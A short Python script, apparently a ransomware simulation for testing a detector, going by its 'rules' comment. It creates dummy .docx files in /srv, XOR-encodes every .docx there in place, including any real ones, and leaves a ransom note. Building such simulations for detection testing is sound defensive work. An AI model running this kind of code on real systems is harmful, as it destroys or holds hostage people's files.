# what: documents are overwritten where they are
# rules: Many documents overwritten; Note of a ransom program left
from pathlib import Path

for number in range(30):
    Path(f"/srv/report{number}.docx").write_bytes(b"x" * 1000)
for path in Path("/srv").glob("*.docx"):
    with path.open("r+b") as file:
        data = file.read()
        file.seek(0)
        file.write(bytes(b ^ 85 for b in data))
Path("/srv/HOW_TO_RESTORE_FILES.txt").write_text("pay")
